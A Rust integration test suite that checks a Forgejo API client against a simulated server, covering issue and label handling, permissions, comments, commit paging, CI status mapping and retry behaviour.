//! The Forgejo client against the strict Forgejo simulator: every operation, paging, the
//! Forgejo-specific traps (ORed labels, PRs in lists, 201 on close, 403 on permissions), retries,
//! and the simulator's own strictness.

use std::sync::Arc;
use std::time::Duration;

use afk_core::config::CiProvider;
use afk_core::evidence::{CiSignal, CloseReason, SignalState};
use afk_core::facts::Permission;
use afk_core::model::{Login, RepoName};
use afk_remotes::error::ErrorKind;
use afk_remotes::forgejo::Forgejo;
use afk_remotes::http::{RetryPolicy, SecretFile};
use afk_remotes::tracker::IssueState;
use afk_sim::forgejo::{self as sim, NewIssue};
use afk_sim::infra::{FaultAction, FaultRule, Remote, RequestRecord, Sim};
use afk_sim::server::{self, Running};
use afk_sim::world::World;
use serde_json::{Value, json};

const TOKEN: &str = "fj-secret-token-0123456789";
const REPO: &str = "octo/app";
const READY: &str = "ready-for-agent";

struct Fx {
    running: Running,
    world: Arc<World>,
    client: Forgejo,
    repo: RepoName,
    dir: tempfile::TempDir,
}

fn policy() -> RetryPolicy {
    RetryPolicy {
        max_retries: 3,
        backoff: Duration::from_millis(5),
        timeout: Duration::from_secs(10),
        deadline: None,
        default_rate_limit_wait: Duration::from_millis(10),
        max_body_bytes: afk_remotes::http::DEFAULT_MAX_BODY_BYTES,
    }
}

/// A world with the bot `afk-bot` (token [`TOKEN`]) as repo admin of `octo/app` (default
/// branch `trunk`, labels `ready-for-agent` and `bug`).
async fn setup() -> Fx {
    let world = World::new(Sim::default());
    sim::add_user(&world, "afk-bot", Some(TOKEN), false);
    sim::add_repo(&world, REPO, "trunk", false).expect("repo");
    sim::set_collaborator(&world, REPO, "afk-bot", "admin").expect("bot admin");
    sim::add_label(&world, REPO, READY).expect("label");
    sim::add_label(&world, REPO, "bug").expect("label");
    sim::add_label(&world, REPO, "agent-in-progress").expect("label");
    let running = server::start(world.clone()).await.expect("start sim");
    let dir = tempfile::tempdir().expect("tempdir");
    let client = client_with_token(&running, &dir, TOKEN);
    Fx {
        running,
        world,
        client,
        repo: REPO.parse().expect("repo name"),
        dir,
    }
}

fn client_with_token(running: &Running, dir: &tempfile::TempDir, token: &str) -> Forgejo {
    let path = dir.path().join(format!("token-{}", token.len()));
    std::fs::write(&path, format!("{token}\n")).expect("token file");
    let api = format!("{}/api/v1", running.url(Remote::Forgejo));
    Forgejo::new(&api, SecretFile::new(path), policy()).expect("client")
}

fn issue(world: &World, title: &str, author: &str, labels: &[&str]) -> u64 {
    sim::add_issue(
        world,
        REPO,
        NewIssue {
            title: title.to_owned(),
            body: format!("body of {title}"),
            author: author.to_owned(),
            labels: labels.iter().map(|l| (*l).to_owned()).collect(),
            pull_request: false,
        },
    )
    .expect("issue")
}

fn requests(world: &World, method: &str, path_suffix: &str) -> Vec<RequestRecord> {
    world
        .sim
        .requests()
        .into_iter()
        .filter(|r| {
            r.remote == Remote::Forgejo && r.method == method && r.path.ends_with(path_suffix)
        })
        .collect()
}

fn fault(path: &str, method: &str, times: u64, action: FaultAction) -> FaultRule {
    FaultRule {
        remote: Some(Remote::Forgejo),
        method: Some(method.to_owned()),
        path: Some(path.to_owned()),
        skip: 0,
        times: Some(times),
        action,
        seen: 0,
    }
}

fn status_fault(status: u16) -> FaultAction {
    FaultAction::Status {
        status,
        body: None,
        headers: Default::default(),
    }
}

// ---------------------------------------------------------------------------------------------
// Issues

#[tokio::test]
async fn list_issues_reads_every_page_of_fifty() {
    let fx = setup().await;
    for n in 0..120 {
        issue(&fx.world, &format!("ready {n}"), "alice", &[READY]);
    }
    for n in 0..7 {
        issue(&fx.world, &format!("other {n}"), "alice", &["bug"]);
    }
    let found = fx
        .client
        .list_issues(&fx.repo, READY, IssueState::Open)
        .await
        .expect("list");
    assert_eq!(found.len(), 120);
    assert!(found.iter().all(|i| i.labels.iter().any(|l| l == READY)));
    let mut numbers: Vec<u64> = found.iter().map(|i| i.number).collect();
    numbers.sort_unstable();
    numbers.dedup();
    assert_eq!(numbers.len(), 120, "no issue read twice");

    let pages = requests(&fx.world, "GET", "/repos/octo/app/issues");
    assert_eq!(pages.len(), 3, "120 issues at 50 a page: {pages:?}");
    for (n, p) in pages.iter().enumerate() {
        assert!(p.query.contains("type=issues"), "{}", p.query);
        assert!(p.query.contains("limit=50"), "{}", p.query);
        assert!(p.query.contains(&format!("page={}", n + 1)), "{}", p.query);
        assert!(p.query.contains("state=open"), "{}", p.query);
    }
}

#[tokio::test]
async fn list_issues_keeps_only_the_exact_label_when_forgejo_returns_more() {
    let fx = setup().await;
    issue(&fx.world, "a bug", "alice", &["bug"]);
    issue(&fx.world, "unlabelled", "alice", &[]);
    // Forgejo drops label names the repo does not have, and then filters nothing.
    let none = fx
        .client
        .list_issues(&fx.repo, "no-such-label", IssueState::Open)
        .await
        .expect("list");
    assert!(none.is_empty(), "{none:?}");
    let ready = issue(&fx.world, "ready", "alice", &[READY, "bug"]);
    let found = fx
        .client
        .list_issues(&fx.repo, READY, IssueState::Open)
        .await
        .expect("list");
    assert_eq!(
        found.iter().map(|i| i.number).collect::<Vec<_>>(),
        vec![ready]
    );
    assert_eq!(found[0].labels, vec![READY.to_owned(), "bug".to_owned()]);
    assert_eq!(found[0].author, Login::new("alice"));
    assert_eq!(found[0].body, "body of ready");
    assert!(found[0].open);
    assert_eq!(found[0].comments, Some(0));
    assert!(
        found[0].html_url.ends_with("/octo/app/issues/3"),
        "{}",
        found[0].html_url
    );
}

#[tokio::test]
async fn list_issues_excludes_pull_requests_and_honours_state() {
    let fx = setup().await;
    let open = issue(&fx.world, "open", "alice", &[READY]);
    let closed = issue(&fx.world, "closed", "alice", &[READY]);
    sim::set_issue_open(&fx.world, REPO, closed, false, "alice").expect("close");
    sim::add_issue(
        &fx.world,
        REPO,
        NewIssue {
            title: "a PR".into(),
            author: "alice".into(),
            labels: vec![READY.into()],
            pull_request: true,
            ..NewIssue::default()
        },
    )
    .expect("pr");
    let numbers =
        |v: Vec<afk_remotes::tracker::Issue>| v.iter().map(|i| i.number).collect::<Vec<_>>();
    let c = &fx.client;
    assert_eq!(
        numbers(
            c.list_issues(&fx.repo, READY, IssueState::Open)
                .await
                .expect("open")
        ),
        vec![open]
    );
    let closed_list = c
        .list_issues(&fx.repo, READY, IssueState::Closed)
        .await
        .expect("closed");
    assert_eq!(closed_list[0].close_reason, Some(CloseReason::Unspecified));
    assert_eq!(numbers(closed_list), vec![closed]);
    let mut all = numbers(
        c.list_issues(&fx.repo, READY, IssueState::All)
            .await
            .expect("all"),
    );
    all.sort_unstable();
    assert_eq!(all, vec![open, closed]);
}

#[tokio::test]
async fn issue_reads_one_and_none_for_an_unknown_number() {
    let fx = setup().await;
    let n = issue(&fx.world, "Add /healthz", "alice", &[READY]);
    let got = fx
        .client
        .issue(&fx.repo, n)
        .await
        .expect("issue")
        .expect("found");
    assert_eq!(got.title, "Add /healthz");
    assert_eq!(got.labels, vec![READY.to_owned()]);
    assert!(!got.is_pull_request);
    assert_eq!(got.updated_at, fx.world.sim.now());
    assert_eq!(
        fx.client.issue(&fx.repo, 999).await.expect("no issue"),
        None
    );
    let pr = sim::add_issue(
        &fx.world,
        REPO,
        NewIssue {
            title: "pr".into(),
            author: "bob".into(),
            pull_request: true,
            ..NewIssue::default()
        },
    )
    .expect("pr");
    let pr = fx
        .client
        .issue(&fx.repo, pr)
        .await
        .expect("pr")
        .expect("found");
    assert!(pr.is_pull_request);
}

#[tokio::test]
async fn default_branch_is_the_repos() {
    let fx = setup().await;
    assert_eq!(
        fx.client.default_branch(&fx.repo).await.expect("branch"),
        "trunk"
    );
    let missing: RepoName = "octo/missing".parse().expect("name");
    let err = fx
        .client
        .default_branch(&missing)
        .await
        .expect_err("unknown repo");
    assert_eq!(err.status(), Some(404));
    assert_eq!(err.remote, "forgejo");
    assert!(err.to_string().contains("/repos/octo/missing"), "{err}");
}

// ---------------------------------------------------------------------------------------------
// Who labelled, and may they?

#[tokio::test]
async fn latest_labeling_reads_all_timeline_pages_for_the_newest_addition() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[]);
    sim::label_issue(&fx.world, REPO, n, READY, "mallory").expect("label");
    fx.world.sim.clock.advance_secs(60);
    sim::unlabel_issue(&fx.world, REPO, n, READY, "mallory").expect("unlabel");
    for k in 0..110 {
        sim::add_comment(&fx.world, REPO, n, "carol", &format!("comment {k}")).expect("comment");
    }
    sim::add_event(&fx.world, REPO, n, "commit_ref", "carol", "").expect("event");
    fx.world.sim.clock.advance_secs(60);
    sim::label_issue(&fx.world, REPO, n, "bug", "dave").expect("other label");
    fx.world.sim.clock.advance_secs(60);
    let labelled_at = fx.world.sim.now();
    sim::label_issue(&fx.world, REPO, n, READY, "alice").expect("label");
    fx.world.sim.clock.advance_secs(60);
    sim::unlabel_issue(&fx.world, REPO, n, "bug", "erin").expect("unlabel other");

    let change = fx
        .client
        .latest_labeling(&fx.repo, n, READY)
        .await
        .expect("timeline")
        .expect("labelled");
    assert_eq!(change.actor, Login::new("alice"));
    assert!(change.added);
    assert_eq!(change.label, READY);
    assert_eq!(change.at, labelled_at);
    assert!(!change.actor_is_bot);
    let pages = requests(&fx.world, "GET", &format!("/issues/{n}/timeline"));
    assert_eq!(
        pages.len(),
        4,
        "the label event sits on the third page; an empty fourth ends the walk"
    );
    assert!(pages[2].query.contains("page=3"));
    assert!(pages[3].query.contains("page=4"));
}

#[tokio::test]
async fn the_timeline_is_paged_past_forgejos_per_page_total_count() {
    // Forgejo's timeline says `X-Total-Count: <items on this page>` and sends no `Link`: a
    // reader trusting the header stops after page one and misses a later labelling.
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[]);
    sim::label_issue(&fx.world, REPO, n, READY, "mallory").expect("label");
    for k in 0..49 {
        sim::add_comment(&fx.world, REPO, n, "carol", &format!("comment {k}")).expect("comment");
    }
    sim::unlabel_issue(&fx.world, REPO, n, READY, "mallory").expect("unlabel");
    fx.world.sim.clock.advance_secs(60);
    sim::label_issue(&fx.world, REPO, n, READY, "alice").expect("relabel on page two");
    let change = fx
        .client
        .latest_labeling(&fx.repo, n, READY)
        .await
        .expect("timeline")
        .expect("labelled");
    assert_eq!(change.actor, Login::new("alice"), "not the stale labelling");
    let pages = requests(&fx.world, "GET", &format!("/issues/{n}/timeline"));
    assert_eq!(pages.len(), 3);
}

#[tokio::test]
async fn latest_labeling_ignores_removals_and_other_labels() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &["bug"]);
    assert_eq!(
        fx.client
            .latest_labeling(&fx.repo, n, READY)
            .await
            .expect("t"),
        None
    );
    sim::label_issue(&fx.world, REPO, n, READY, "alice").expect("label");
    fx.world.sim.clock.advance_secs(5);
    sim::unlabel_issue(&fx.world, REPO, n, READY, "mallory").expect("unlabel");
    let change = fx
        .client
        .latest_labeling(&fx.repo, n, READY)
        .await
        .expect("t")
        .expect("some");
    assert_eq!(
        change.actor,
        Login::new("alice"),
        "a removal is not an addition"
    );
    let err = fx
        .client
        .latest_labeling(&fx.repo, 404, READY)
        .await
        .expect_err("no issue");
    assert_eq!(err.status(), Some(404));
}

#[tokio::test]
async fn permission_reports_owner_write_read_and_refusals_as_unknown() {
    let fx = setup().await;
    sim::set_collaborator(&fx.world, REPO, "wendy", "write").expect("write");
    sim::set_collaborator(&fx.world, REPO, "rita", "read").expect("read");
    sim::add_user(&fx.world, "stranger", None, false);
    let c = &fx.client;
    assert_eq!(
        c.permission(&fx.repo, "octo").await.expect("owner"),
        Permission::Owner
    );
    assert_eq!(
        c.permission(&fx.repo, "wendy").await.expect("w"),
        Permission::Write
    );
    assert_eq!(
        c.permission(&fx.repo, "rita").await.expect("r"),
        Permission::Read
    );
    assert_eq!(
        c.permission(&fx.repo, "afk-bot").await.expect("self"),
        Permission::Admin
    );
    assert_eq!(
        c.permission(&fx.repo, "stranger")
            .await
            .expect("public repo"),
        Permission::Read
    );
    let Permission::Unknown(why) = c.permission(&fx.repo, "nobody").await.expect("404") else {
        panic!("an unknown user must be Unknown");
    };
    assert!(why.contains("404") && why.contains("nobody"), "{why}");
    assert!(!Permission::Unknown(why).may_arm());

    // A bot that is only a writer is refused (403) except about itself.
    sim::set_collaborator(&fx.world, REPO, "afk-bot", "write").expect("demote");
    let Permission::Unknown(why) = c.permission(&fx.repo, "wendy").await.expect("403") else {
        panic!("a 403 must be Unknown");
    };
    assert!(
        why.contains("403") && why.contains("admin") && why.contains("octo/app"),
        "{why}"
    );
    assert_eq!(
        c.permission(&fx.repo, "afk-bot").await.expect("self"),
        Permission::Write
    );
}

#[tokio::test]
async fn native_dependencies_are_the_linked_blockers() {
    let fx = setup().await;
    let n = issue(&fx.world, "blocked natively", "alice", &[READY]);
    let open = issue(&fx.world, "still to do", "alice", &[]);
    let done = issue(&fx.world, "done already", "alice", &[]);
    sim::set_issue_open(&fx.world, REPO, done, false, "alice").expect("close");
    sim::add_dependency(&fx.world, REPO, n, (REPO, open)).expect("depend");
    sim::add_dependency(&fx.world, REPO, n, (REPO, done)).expect("depend");
    let extras = fx.client.issue_extras(&fx.repo, n).await.expect("deps");
    assert_eq!(extras.body_edited_at, None, "Forgejo cannot tell");
    let got: Vec<(String, u64, bool)> = extras
        .linked_blockers
        .iter()
        .map(|b| (b.repo.clone(), b.number, b.open))
        .collect();
    assert_eq!(
        got,
        vec![
            (REPO.to_owned(), open, true),
            (REPO.to_owned(), done, false)
        ]
    );
    // A repo with dependencies turned off answers 404: no native blockers.
    fx.world
        .sim
        .add_fault(fault("/dependencies", "GET", 1, status_fault(404)));
    let off = fx
        .client
        .issue_extras(&fx.repo, n)
        .await
        .expect("404 = none");
    assert!(off.linked_blockers.is_empty());
}

#[tokio::test]
async fn body_last_edited_at_is_unknown_on_forgejo() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[]);
    assert_eq!(
        fx.client
            .issue_extras(&fx.repo, n)
            .await
            .expect("none")
            .body_edited_at,
        None
    );
}

// ---------------------------------------------------------------------------------------------
// Labels, comments, state

#[tokio::test]
async fn add_labels_by_name_records_the_bot_as_actor() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[READY]);
    let labels = vec!["agent-in-progress".to_owned(), READY.to_owned()];
    fx.client
        .add_labels(&fx.repo, n, &labels)
        .await
        .expect("add");
    assert_eq!(
        sim::issue_labels(&fx.world, REPO, n),
        vec![READY.to_owned(), "agent-in-progress".to_owned()]
    );
    let events: Vec<_> = sim::issue(&fx.world, REPO, n)
        .expect("issue")
        .timeline
        .into_iter()
        .filter(|e| e.kind == "label" && e.user == "afk-bot")
        .collect();
    assert_eq!(events.len(), 1, "only the new label is an event");
    assert_eq!(events[0].body, "1");
    // Nothing to add: no request.
    fx.client.add_labels(&fx.repo, n, &[]).await.expect("empty");
    assert_eq!(
        requests(&fx.world, "POST", &format!("/issues/{n}/labels")).len(),
        1
    );
    // A label the repo does not have: Forgejo drops the name and answers 200 with the issue's
    // labels, so afk sees it missing, creates it in the repo and adds it again, as GitHub
    // would have done by itself.
    fx.client
        .add_labels(&fx.repo, n, &["ready-for-human".to_owned()])
        .await
        .expect("created, then added");
    assert!(sim::issue_labels(&fx.world, REPO, n).contains(&"ready-for-human".to_owned()));
    let created = requests(&fx.world, "POST", "/repos/octo/app/labels");
    assert_eq!(created.len(), 1, "only the missing label is created");
    assert_eq!(created[0].status, 201);
    assert_eq!(
        requests(&fx.world, "POST", &format!("/issues/{n}/labels")).len(),
        3,
        "the add Forgejo dropped, then the add after creating"
    );
}

#[tokio::test]
async fn the_simulator_drops_unknown_label_names_with_200_as_forgejo_does() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[READY]);
    let url = format!(
        "{}/api/v1/repos/{REPO}/issues/{n}/labels",
        fx.running.url(Remote::Forgejo)
    );
    let http = reqwest::Client::new();
    let resp = http
        .post(&url)
        .header("authorization", format!("token {TOKEN}"))
        .json(&json!({"labels": ["bug", "no-such-label"]}))
        .send()
        .await
        .expect("post");
    assert_eq!(resp.status().as_u16(), 200);
    let body: Value = resp.json().await.expect("json");
    let names: Vec<&str> = body
        .as_array()
        .expect("the issue's labels")
        .iter()
        .filter_map(|l| l["name"].as_str())
        .collect();
    assert_eq!(
        names,
        vec![READY, "bug"],
        "the unknown name is simply absent"
    );
}

#[tokio::test]
async fn a_label_still_missing_after_creating_it_is_an_error_naming_label_and_repo() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[READY]);
    // Both adds answer as if the label did not stick (e.g. a label the token cannot attach).
    fx.world.sim.add_fault(fault(
        &format!("/issues/{n}/labels"),
        "POST",
        2,
        FaultAction::Status {
            status: 200,
            body: Some("[]".into()),
            headers: [("content-type".to_owned(), "application/json".to_owned())].into(),
        },
    ));
    let err = fx
        .client
        .add_labels(&fx.repo, n, &["ready-for-human".to_owned()])
        .await
        .expect_err("the label never appears on the issue");
    let msg = err.to_string();
    assert!(msg.contains("ready-for-human"), "{msg}");
    assert!(msg.contains(REPO), "{msg}");
    assert_eq!(
        requests(&fx.world, "POST", &format!("/issues/{n}/labels")).len(),
        2,
        "one add, one after creating, no more"
    );
}

#[tokio::test]
async fn ensure_labels_creates_the_missing_ones_once_per_client() {
    let fx = setup().await;
    let ours = [
        READY.to_owned(),
        "agent-in-progress".to_owned(),
        "ready-for-human".to_owned(),
    ];
    fx.client
        .ensure_labels(&fx.repo, &ours)
        .await
        .expect("ensure");
    let created = requests(&fx.world, "POST", "/repos/octo/app/labels");
    assert_eq!(created.len(), 1, "only ready-for-human was missing");
    assert!(created[0].body.contains("ready-for-human"));
    fx.client
        .ensure_labels(&fx.repo, &ours)
        .await
        .expect("again");
    assert_eq!(
        requests(&fx.world, "GET", "/repos/octo/app/labels").len(),
        1,
        "the second call in the same tick asks nothing"
    );
}

#[tokio::test]
async fn a_label_that_cannot_be_created_fails_naming_the_request() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[READY]);
    fx.world.sim.add_fault(fault(
        "/repos/octo/app/labels",
        "POST",
        1,
        FaultAction::Status {
            status: 403,
            body: Some(
                r#"{"message":"token does not have at least one of required scope(s): [write:issue]"}"#
                    .into(),
            ),
            headers: Default::default(),
        },
    ));
    let err = fx
        .client
        .add_labels(&fx.repo, n, &["no-such".to_owned()])
        .await
        .expect_err("cannot create the label");
    assert_eq!(err.status(), Some(403));
    assert!(
        err.to_string().contains("POST /repos/octo/app/labels"),
        "{err}"
    );
    assert!(!sim::issue_labels(&fx.world, REPO, n).contains(&"no-such".to_owned()));
}

#[tokio::test]
async fn remove_label_removes_by_id_and_treats_absent_as_done() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[READY, "bug"]);
    fx.client
        .remove_label(&fx.repo, n, READY)
        .await
        .expect("remove");
    assert_eq!(
        sim::issue_labels(&fx.world, REPO, n),
        vec!["bug".to_owned()]
    );
    let deletes = requests(&fx.world, "DELETE", "");
    assert_eq!(deletes.len(), 1);
    let ready_id = sim::add_label(&fx.world, REPO, READY).expect("existing label");
    assert!(
        deletes[0]
            .path
            .ends_with(&format!("/issues/{n}/labels/{ready_id}")),
        "by id: {}",
        deletes[0].path
    );

    // Absent: nothing to do, no DELETE.
    fx.client
        .remove_label(&fx.repo, n, READY)
        .await
        .expect("absent");
    fx.client
        .remove_label(&fx.repo, n, "never-existed")
        .await
        .expect("unknown");
    assert_eq!(requests(&fx.world, "DELETE", "").len(), 1);

    // Removed by someone else between our read and our DELETE: Forgejo's 404 is success.
    fx.world
        .sim
        .add_fault(fault("/labels/", "DELETE", 1, status_fault(404)));
    fx.client
        .remove_label(&fx.repo, n, "bug")
        .await
        .expect("raced");
}

#[tokio::test]
async fn comments_are_created_listed_and_edited() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[]);
    sim::add_comment(&fx.world, REPO, n, "alice", "please do it").expect("comment");
    sim::label_issue(&fx.world, REPO, n, READY, "alice").expect("label");
    let created = fx
        .client
        .create_comment(&fx.repo, n, "afk status: claimed")
        .await
        .expect("create");
    assert_eq!(created.author, Login::new("afk-bot"));
    assert_eq!(created.body, "afk status: claimed");
    assert_eq!(created.created_at, fx.world.sim.now());
    assert_eq!(
        requests(&fx.world, "POST", &format!("/issues/{n}/comments"))[0].status,
        201
    );

    let listed = fx.client.list_comments(&fx.repo, n).await.expect("list");
    assert_eq!(listed.len(), 2, "label events are not comments: {listed:?}");
    assert_eq!(listed[0].author, Login::new("alice"));
    assert_eq!(listed[1], created);

    fx.client
        .edit_comment(&fx.repo, created.id, "afk status: dispatched")
        .await
        .expect("edit");
    let listed = fx.client.list_comments(&fx.repo, n).await.expect("list");
    assert_eq!(listed[1].body, "afk status: dispatched");
    assert_eq!(listed[1].id, created.id);

    // Forgejo lets only the author or a repo admin edit a comment.
    sim::set_collaborator(&fx.world, REPO, "afk-bot", "write").expect("demote");
    let err = fx
        .client
        .edit_comment(&fx.repo, listed[0].id, "hijack")
        .await
        .expect_err("not ours");
    assert_eq!(err.status(), Some(403));
    let err = fx
        .client
        .edit_comment(&fx.repo, 987_654, "x")
        .await
        .expect_err("unknown");
    assert_eq!(err.status(), Some(404));
}

#[tokio::test]
async fn create_comment_is_not_retried_after_a_server_error() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[]);
    fx.world.sim.add_fault(fault(
        &format!("/issues/{n}/comments"),
        "POST",
        1,
        status_fault(502),
    ));
    let err = fx
        .client
        .create_comment(&fx.repo, n, "once")
        .await
        .expect_err("502");
    assert_eq!(err.status(), Some(502));
    assert_eq!(
        requests(&fx.world, "POST", "/comments").len(),
        1,
        "a POST is sent once"
    );
}

#[tokio::test]
async fn close_and_reopen_accept_forgejos_201() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[READY]);
    fx.client
        .close_issue(&fx.repo, n, CloseReason::Completed)
        .await
        .expect("close");
    let closed = sim::issue(&fx.world, REPO, n).expect("issue");
    assert!(!closed.open);
    let patches = requests(&fx.world, "PATCH", &format!("/issues/{n}"));
    assert_eq!(patches[0].status, 201);
    let sent: Value = serde_json::from_str(&patches[0].body).expect("json");
    assert_eq!(
        sent,
        json!({"state": "closed"}),
        "no state_reason on Forgejo"
    );
    let read = fx
        .client
        .issue(&fx.repo, n)
        .await
        .expect("issue")
        .expect("found");
    assert!(!read.open);
    assert_eq!(read.close_reason, Some(CloseReason::Unspecified));

    fx.client.reopen_issue(&fx.repo, n).await.expect("reopen");
    assert!(sim::issue(&fx.world, REPO, n).expect("issue").open);
    let err = fx
        .client
        .reopen_issue(&fx.repo, 77)
        .await
        .expect_err("unknown");
    assert_eq!(err.status(), Some(404));
}

// ---------------------------------------------------------------------------------------------
// Commits and CI

#[tokio::test]
async fn commits_since_pages_newest_first_and_stops_at_since() {
    let fx = setup().await;
    let mut shas = Vec::new();
    let mut times = Vec::new();
    for k in 1..=120 {
        fx.world.sim.clock.advance_secs(60);
        times.push(fx.world.sim.now());
        shas.push(
            sim::push_commit(&fx.world, REPO, "trunk", &format!("change {k}")).expect("push"),
        );
    }
    sim::push_commit(&fx.world, REPO, "feature", "elsewhere").expect("push");
    let since = times[39];
    let got = fx
        .client
        .commits_since(&fx.repo, "trunk", since)
        .await
        .expect("commits");
    assert_eq!(got.len(), 81, "commits 40..=120");
    assert_eq!(got[0].sha, shas[119], "newest first");
    assert_eq!(got[80].sha, shas[39]);
    assert_eq!(got[80].committed_at, since);
    assert_eq!(got[0].message, "change 120");
    assert!(
        got[0]
            .html_url
            .ends_with(&format!("/octo/app/commit/{}", shas[119]))
    );
    let pages = requests(&fx.world, "GET", "/repos/octo/app/commits");
    assert_eq!(
        pages.len(),
        2,
        "page 2 reaches older commits, so page 3 is never read"
    );
    for p in &pages {
        for part in [
            "sha=trunk",
            "stat=false",
            "verification=false",
            "files=false",
            "limit=50",
        ] {
            assert!(p.query.contains(part), "{part} in {}", p.query);
        }
    }
    let later = fx.world.sim.now() + chrono::TimeDelta::seconds(1);
    assert!(
        fx.client
            .commits_since(&fx.repo, "trunk", later)
            .await
            .expect("none")
            .is_empty()
    );
    let err = fx
        .client
        .commits_since(&fx.repo, "nope", since)
        .await
        .expect_err("branch");
    assert_eq!(err.status(), Some(404));
}

#[tokio::test]
async fn commits_since_on_an_empty_repo_is_empty() {
    let fx = setup().await;
    let got = fx
        .client
        .commits_since(&fx.repo, "trunk", fx.world.sim.now())
        .await
        .expect("empty repo");
    assert!(got.is_empty());
}

fn by_name(signals: &[CiSignal]) -> Vec<(&str, SignalState)> {
    let mut v: Vec<_> = signals.iter().map(|s| (s.name.as_str(), s.state)).collect();
    v.sort_by(|a, b| a.0.cmp(b.0));
    v
}

#[tokio::test]
async fn forgejo_status_maps_every_state() {
    let fx = setup().await;
    let sha = sim::push_commit(&fx.world, REPO, "trunk", "x").expect("push");
    assert!(
        fx.client
            .ci_signals(&fx.repo, &sha, CiProvider::ForgejoStatus)
            .await
            .expect("none")
            .is_empty(),
        "no statuses: no signals"
    );
    for (ctx, st) in [
        ("ci/build", "success"),
        ("ci/test", "failure"),
        ("ci/lint", "warning"),
        ("ci/docs", "skipped"),
        ("ci/e2e", "error"),
        ("ci/deploy", "pending"),
    ] {
        sim::add_status(
            &fx.world,
            REPO,
            &sha,
            ctx,
            st,
            &format!("https://ci.example/{ctx}"),
        )
        .expect("status");
    }
    // A later report for the same context replaces the earlier one.
    sim::add_status(
        &fx.world,
        REPO,
        &sha,
        "ci/test",
        "success",
        "https://ci.example/rerun",
    )
    .expect("status");
    let signals = fx
        .client
        .ci_signals(&fx.repo, &sha, CiProvider::ForgejoStatus)
        .await
        .expect("signals");
    assert_eq!(
        by_name(&signals),
        vec![
            ("ci/build", SignalState::Success),
            ("ci/deploy", SignalState::Pending),
            ("ci/docs", SignalState::Success),
            ("ci/e2e", SignalState::Failure),
            ("ci/lint", SignalState::Failure),
            ("ci/test", SignalState::Success),
        ]
    );
    let test = signals.iter().find(|s| s.name == "ci/test").expect("test");
    assert_eq!(test.url.as_deref(), Some("https://ci.example/rerun"));
}

#[tokio::test]
async fn forgejo_status_reads_more_than_one_page_of_contexts() {
    let fx = setup().await;
    let sha = sim::push_commit(&fx.world, REPO, "trunk", "x").expect("push");
    for k in 0..60 {
        sim::add_status(&fx.world, REPO, &sha, &format!("job-{k:02}"), "success", "").expect("s");
    }
    sim::add_status(&fx.world, REPO, &sha, "job-59", "failure", "").expect("s");
    let signals = fx
        .client
        .ci_signals(&fx.repo, &sha, CiProvider::ForgejoStatus)
        .await
        .expect("signals");
    assert_eq!(signals.len(), 60);
    assert!(
        signals.iter().all(|s| s.url.is_none()),
        "empty target_url is no link"
    );
    let failing: Vec<_> = signals
        .iter()
        .filter(|s| s.state == SignalState::Failure)
        .collect();
    assert_eq!(failing.len(), 1);
    assert_eq!(failing[0].name, "job-59");
}

#[tokio::test]
async fn forgejo_actions_maps_every_run_state() {
    let fx = setup().await;
    let sha = sim::push_commit(&fx.world, REPO, "trunk", "x").expect("push");
    let other = sim::push_commit(&fx.world, REPO, "trunk", "y").expect("push");
    assert!(
        fx.client
            .ci_signals(&fx.repo, &sha, CiProvider::ForgejoActions)
            .await
            .expect("none")
            .is_empty()
    );
    for (wf, st) in [
        ("waiting.yml", "waiting"),
        ("running.yml", "running"),
        ("blocked.yml", "blocked"),
        ("unknown.yml", "unknown"),
        ("success.yml", "success"),
        ("skipped.yml", "skipped"),
        ("failure.yml", "failure"),
        ("cancelled.yml", "cancelled"),
    ] {
        sim::add_action_run(&fx.world, REPO, &sha, wf, st).expect("run");
    }
    sim::add_action_run(&fx.world, REPO, &other, "failure.yml", "success").expect("run");
    let rerun =
        sim::add_action_run(&fx.world, REPO, &sha, "cancelled.yml", "running").expect("run");
    let signals = fx
        .client
        .ci_signals(&fx.repo, &sha, CiProvider::ForgejoActions)
        .await
        .expect("signals");
    assert_eq!(
        by_name(&signals),
        vec![
            ("blocked.yml", SignalState::Pending),
            ("cancelled.yml", SignalState::Pending),
            ("failure.yml", SignalState::Failure),
            ("running.yml", SignalState::Pending),
            ("skipped.yml", SignalState::Success),
            ("success.yml", SignalState::Success),
            ("unknown.yml", SignalState::Pending),
            ("waiting.yml", SignalState::Pending),
        ]
    );
    assert!(
        requests(&fx.world, "GET", "/actions/runs")[0]
            .query
            .contains(&format!("head_sha={sha}"))
    );
    sim::set_action_run(&fx.world, REPO, rerun, "success").expect("finish");
    let signals = fx
        .client
        .ci_signals(&fx.repo, &sha, CiProvider::ForgejoActions)
        .await
        .expect("signals");
    let rerun = signals
        .iter()
        .find(|s| s.name == "cancelled.yml")
        .expect("rerun");
    assert_eq!(
        rerun.state,
        SignalState::Success,
        "the latest run of a workflow counts"
    );
    assert!(
        rerun
            .url
            .as_deref()
            .is_some_and(|u| u.contains("/octo/app/actions/runs/"))
    );
}

#[tokio::test]
async fn other_ci_providers_are_refused() {
    let fx = setup().await;
    for p in [
        CiProvider::GithubChecks,
        CiProvider::GithubStatus,
        CiProvider::Woodpecker,
    ] {
        let err = fx
            .client
            .ci_signals(&fx.repo, "abc", p)
            .await
            .expect_err("not forgejo");
        assert_eq!(err.remote, "forgejo");
        assert!(matches!(err.kind, ErrorKind::Local(_)), "{err}");
    }
}

// ---------------------------------------------------------------------------------------------
// Transport: retries, faults, credentials

#[tokio::test]
async fn server_errors_on_reads_are_retried() {
    let fx = setup().await;
    let n = issue(&fx.world, "x", "alice", &[]);
    let path = format!("/api/v1/repos/octo/app/issues/{n}");
    fx.world
        .sim
        .add_fault(fault(&path, "GET", 2, status_fault(502)));
    let got = fx.client.issue(&fx.repo, n).await.expect("third try");
    assert_eq!(got.map(|i| i.number), Some(n));
    let tries = requests(&fx.world, "GET", &path);
    assert_eq!(
        tries.iter().map(|r| r.status).collect::<Vec<_>>(),
        vec![502, 502, 200]
    );
}
